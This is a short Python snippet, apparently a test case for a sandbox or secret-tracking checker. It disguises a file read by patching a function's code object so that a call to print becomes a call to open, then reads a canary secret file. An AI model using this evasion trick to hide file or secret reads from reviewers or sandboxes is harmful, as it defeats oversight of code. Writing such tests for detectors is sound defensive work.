# source: own
# effect: secret

def template(path):
    return print(path)


old = template.__code__
template.__code__ = type(old).replace(old, co_names=("open",))
print(template("/tmp/canary/secret").read())
